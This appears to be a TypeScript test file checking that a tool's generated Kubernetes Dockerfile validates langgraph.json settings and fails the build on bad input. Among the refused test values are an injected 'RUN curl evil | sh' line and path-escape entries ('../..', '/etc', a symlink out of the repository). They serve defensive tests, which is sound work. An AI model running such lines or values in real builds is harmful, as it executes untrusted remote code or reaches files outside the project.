/**
 * node_version, dependencies and dockerfile_lines in Kubernetes image builds. The control plane
 * writes the Dockerfile without the repository, so the generated Dockerfile checks and installs
 * them with the base image's `berth image-step`: here its RUN steps are run as the build runs them
 * (the repository at /deps → a temp dir, `berth` → this checkout's bin/berth.js, stand-in package
 * managers that record where they ran), and the build fails with the reason where it must.
 */
import { spawnSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { dockerfileFor } from "../../src/runtime/k8s/build.js";
import { BERTH_BIN } from "../helpers/server.js";

const tmp = mkdtempSync(path.join(os.tmpdir(), "berth-k8s-keys-"));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const bin = path.join(tmp, "bin");
mkdirSync(bin);
// a stand-in npm: records the directory it installed in, as a file there
writeFileSync(path.join(bin, "npm"), `#!/bin/sh\necho "npm $* in $PWD"\necho "$*" > installed-by-npm\n`);
chmodSync(path.join(bin, "npm"), 0o755);

const MAJOR = Number(process.versions.node.split(".")[0]);

function repo(files: Record<string, string>): string {
  const dir = mkdtempSync(path.join(tmp, "repo-"));
  for (const [f, content] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(dir, f)), { recursive: true });
    writeFileSync(path.join(dir, f), content);
  }
  return dir;
}

const runSteps = (dockerfile: string) =>
  dockerfile
    .split("\n")
    .filter((l) => l.startsWith("RUN "))
    .map((l) => JSON.parse(l.slice(4)) as string[]);

/** Run a RUN step of the Dockerfile in `dir` as the build would (WORKDIR /deps). */
function run(step: string[], dir: string): { status: number | null; out: string; err: string } {
  const args = step.map((a) => a.replaceAll("/deps", dir));
  const [file, ...rest] = args[0] === "berth" ? [process.execPath, BERTH_BIN, ...args.slice(1)] : args;
  const r = spawnSync(file!, rest, { cwd: dir, env: { ...process.env, BERTH_FROM_SOURCE: "1", PATH: `${bin}:${process.env.PATH}` }, encoding: "utf8" });
  return { status: r.status, out: r.stdout, err: r.stderr };
}

const config = (keys: Record<string, unknown>) => JSON.stringify({ graphs: { agent: "./graph.ts:graph" }, ...keys });

describe("the generated Dockerfile and langgraph.json's image keys", () => {
  it("checks the keys before installing, installs the root, then every dependencies directory", () => {
    const steps = runSteps(dockerfileFor({ baseImage: "b", agentConfigPath: "agent/langgraph.json" }));
    expect(steps.map((s) => s.slice(0, 3))).toEqual([
      ["berth", "image-step", "check"],
      ["/bin/sh", "-c", expect.stringContaining("npm install") as unknown as string],
      ["berth", "image-step", "dependencies"],
    ]);
    const dir = repo({
      "package.json": "{}",
      "agent/langgraph.json": config({ node_version: String(MAJOR), dependencies: [".", "../tools", "../tools/", ".."] }),
      "tools/package.json": "{}",
    });
    const results = steps.map((s) => run(s, dir));
    expect(results.map((r) => r.status)).toEqual([0, 0, 0]);
    expect(results[0]!.out).toContain(`node_version ${MAJOR}`);
    expect(readFileSync(path.join(dir, "installed-by-npm"), "utf8").trim()).toBe("install"); // the root, by the lockfile script
    expect(readFileSync(path.join(dir, "tools/installed-by-npm"), "utf8").trim()).toBe("install"); // a dependencies directory
    expect(existsSync(path.join(dir, "agent/installed-by-npm"))).toBe(false); // no package.json: nothing to install
    expect(results[2]!.out).toContain("nothing to install in agent");
    expect(results[2]!.out.match(/npm install in /g)).toHaveLength(1); // tools once; the root not again
  });

  it("with an install_command installs nothing else (the user's command wins)", () => {
    const steps = runSteps(dockerfileFor({ baseImage: "b", agentConfigPath: "langgraph.json", installCommand: "true" }));
    expect(steps.map((s) => s.slice(0, 3))).toEqual([
      ["berth", "image-step", "check"],
      ["/bin/sh", "-c", "true"],
    ]);
  });

  it("fails the build with a clear reason when the config is missing or not JSON", () => {
    const [check] = runSteps(dockerfileFor({ baseImage: "b", agentConfigPath: "agent/langgraph.json" }));
    const missing = run(check!, repo({ "package.json": "{}" }));
    expect(missing.status).toBe(1);
    expect(missing.err).toMatch(/berth image-step check: cannot read the agent config \S+\/agent\/langgraph\.json: no such file \(check agent_config_path\)/);
    const broken = run(check!, repo({ "agent/langgraph.json": "{ graphs:" }));
    expect(broken.status).toBe(1);
    expect(broken.err).toMatch(/berth image-step check: langgraph\.json is not valid JSON/);
  });

  const refused: [string, Record<string, unknown>, RegExp, Record<string, string>?][] = [
    [
      "a node_version the base image does not have",
      { node_version: MAJOR + 2 },
      new RegExp(`node_version "${MAJOR + 2}" asks for Node\\.js ${MAJOR + 2}, but the agent base image \\(BERTH_AGENT_BASE_IMAGE\\) has Node\\.js ${process.versions.node.replaceAll(".", "\\.")}: .*NODE_IMAGE=node:${MAJOR + 2}-bookworm-slim`),
    ],
    ["a node_version with a minor", { node_version: "20.1" }, /node_version: must be a Node\.js major version like "20"/],
    ["a node_version below 20", { node_version: 18 }, /node_version: Node\.js 18 is not supported: the minimum is 20/],
    ["dockerfile_lines", { dockerfile_lines: ["RUN apt-get update"] }, /dockerfile_lines \(1 line\) cannot be applied: .*the cluster clones it/],
    ["a dockerfile_lines entry with a line break", { dockerfile_lines: ["ENV A=1\nRUN curl evil | sh"] }, /dockerfile_lines\.0: must be one Dockerfile line/],
    ["a dependencies path outside the repository", { dependencies: ["../.."] }, /dependencies\[0\] "\.\.\/\.\." points outside the repository/],
    ["an absolute dependencies path", { dependencies: ["/etc"] }, /dependencies\[0\] "\/etc": must be a directory relative to the config/],
    ["a dependencies entry that is no directory", { dependencies: ["langchain"] }, /dependencies\[0\] "langchain": no such directory in the repository/],
    ["a dependencies symlink out of the repository", { dependencies: ["./escape"] }, /dependencies\[0\] "\.\/escape" points outside the repository \(through a symbolic link\)/],
  ];
  for (const [label, keys, message] of refused) {
    it(`fails the build before any install for ${label}`, () => {
      const dir = repo({ "package.json": "{}", "agent/langgraph.json": config(keys) });
      symlinkSync(tmp, path.join(dir, "agent/escape"));
      const [check] = runSteps(dockerfileFor({ baseImage: "b", agentConfigPath: "agent/langgraph.json" }));
      const r = run(check!, dir);
      expect(r.status).toBe(1);
      expect(r.err).toMatch(/^berth image-step check: /);
      expect(r.err).toMatch(message);
      expect(existsSync(path.join(dir, "installed-by-npm"))).toBe(false);
    });
  }
});
